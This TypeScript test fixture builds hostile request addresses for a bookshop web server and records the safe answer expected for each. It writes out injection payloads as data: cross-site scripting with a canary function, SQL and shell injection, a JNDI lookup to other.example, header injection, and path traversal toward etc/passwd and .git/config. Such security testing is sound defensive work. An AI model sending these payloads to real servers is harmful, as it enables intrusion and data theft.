/** How the server must answer; a "book" and "nothing" are the two failure screens. */
export type Answer = "page" | "redirect" | "book" | "nothing" | "bad request" | "too long";

export interface HostileAddress {
  /** What the request line holds, byte for byte. */
  target: string;
  answer: Answer;
  /** The page that it leads to all the same. */
  page?: string;
}

/** Names that some program, somewhere, takes for more than a name. */
const NAMES = String.raw`
  __proto__ constructor hasOwnProperty toString prototype undefined null NaN -1 ... .git .env
  ~root con aux.html % %zz %2 %ff%fe %c0%ae%c0%ae %00 %0d%0aSet-Cookie:a=b %u002e %252e%252e%252f
  ..%2f..%2fpackage.json ..%5c..%5cpackage.json ..\..\package.json javascript:canary()
  data:text%2fhtml,canary() <svg%09onload=canary()> <script>canary()<%2Fscript>
  %3Cscript%3Ecanary()%3C%2Fscript%3E <img%2Fsrc=x%2Fonerror=canary()> "onmouseover="canary()
  '-canary()-' {{constructor.constructor('canary()')()}} ';DROP+TABLE+books;-- $(canary) |canary
  $%7Bjndi:ldap:%2F%2Fother.example%7D %E2%80%AEkoob %D7%A1%D7%A4%D7%A8 %F0%9F%93%96 e%CC%81
  %EF%BB%BF %ED%A0%80 %E2%80%8B * @ a;b=c index.php wp-login.php
`
  .trim()
  .split(/\s+/);
/** What no request line may hold. */
const FORBIDDEN = ["\0", " ", "\t", "\x01", "\x7f", "\x1b[31m", " HTTP/1.0 ", "\r"];
const OUTSIDE = ["etc/passwd", "package.json", ".git/config"];
const UP = ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "....//", ".%2e/"];

/** Each name in each place, and each way out of the site's folder. */
export function hostileAddresses(pages: readonly string[]): HostileAddress[] {
  return [
    ...NAMES.flatMap((name): HostileAddress[] => [
      { target: `/book/${name}`, answer: "book" },
      { target: `/book/${name.repeat(Math.ceil(4000 / name.length))}`, answer: "book" },
      { target: `/x${name}`, answer: "nothing" },
      { target: `/book/${name}/${name}`, answer: "nothing" },
      { target: `/${name}/${name}/${name}`, answer: "nothing" },
      { target: `/buy-books?${name}=${name}`, answer: "page", page: "/buy-books" },
      { target: `/book/${name.repeat(Math.ceil(20_000 / name.length))}`, answer: "too long" },
    ]),
    ...FORBIDDEN.map((text): HostileAddress => ({ target: `/a${text}b`, answer: "bad request" })),
    ...UP.flatMap((up) =>
      OUTSIDE.map(
        (file): HostileAddress => ({ target: `/assets/${up.repeat(6)}${file}`, answer: "nothing" }),
      ),
    ),
    ...pages
      .filter((page) => page !== "/")
      .map((page): HostileAddress => ({ target: encoded(page), answer: "redirect", page })),
  ];
}

/** A page's address with its first letter written as its code. */
function encoded(path: string) {
  return `/%${path.charCodeAt(1).toString(16)}${path.slice(2)}`;
}
